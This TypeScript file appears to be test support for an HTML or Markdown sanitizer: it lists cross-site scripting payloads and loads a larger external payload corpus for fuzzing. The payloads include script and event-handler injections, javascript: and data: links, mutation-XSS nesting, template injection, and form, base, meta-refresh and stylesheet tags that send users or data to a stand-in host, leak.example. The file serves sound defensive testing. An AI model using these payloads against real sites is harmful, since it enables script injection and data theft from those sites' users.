import { readFile } from "node:fs/promises";
import { join } from "node:path";

/** Ours: one of each kind that the corpus has many of, and what only this program could fall for. */
export const OWN_PAYLOADS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `'-alert(1)-'`,
  `</textarea></title></style></template><script>prompt(1)</script>`,
  `<a href="javascript:alert(1)" onmouseover="alert(1)">here</a>`,
  `[here](javascript:alert(1)) [here](  JaVaScRiPt&colon;alert(1))`,
  `[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![here](https://leak.example/pixel.png "onload=alert(1)")`,
  `[here](https://a.example/"onfocus=alert(1)autofocus=") <https://a.example/'onclick='alert(1)>`,
  "[a]: javascript:alert(1)\n[a]",
  "```html onload=alert(1)\n<iframe srcdoc='<script>alert(1)</script>'>\n```",
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form action=https://leak.example/><input name=innerHTML><button>x</button></form>`,
  `<base href=https://leak.example/><meta http-equiv=refresh content="0;url=https://leak.example/">`,
  `<style>@import "https://leak.example/a.css"</style><link rel=stylesheet href=https://leak.example/b.css>`,
  `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`,
  `comment-1" id="heading" class="fold" part="post`,
  `{count} {name} {wait} {reason}`,
  `__proto__`,
  `\u202Egnirts\u202C \u2066<b>\u2069 \uFEFF<scr\u200Bipt>`,
  `ada.example/?"><script>alert(1)</script>`,
  `https://ada.example/#'onmouseover='alert(1)`,
  `//leak.example/\\"><img src=x onerror=confirm(1)>`,
  `vbscript:msgbox(1)`,
  `${"<".repeat(500)}img src=x onerror=alert(1)>`,
  `${"[".repeat(200)}x${"](javascript:alert(1))".repeat(20)}`,
];

/** Every payload of the corpus, below the folder given: `xss/*` and `strings/blns.json`. */
export async function readCorpus(folder: string): Promise<string[]> {
  const read = (name: string) => readFile(join(folder, name), "utf8");
  const lines = async (name: string) => (await read(name)).split("\n");
  const records = async <Row>(name: string, payload: (row: Row) => string) =>
    (JSON.parse(await read(name)) as Row[]).map(payload);
  const sets = await Promise.all([
    records<{ payload: string }>("xss/dompurify.json", (row) => row.payload),
    records<{ markdown: string }>("xss/commonmark-spec.json", (row) => row.markdown),
    records<string>("strings/blns.json", (row) => row),
    lines("xss/markdown.txt"),
    lines("xss/payloadbox.txt"),
  ]);
  return [...new Set(sets.flat())].filter((payload) => payload.trim() !== "");
}
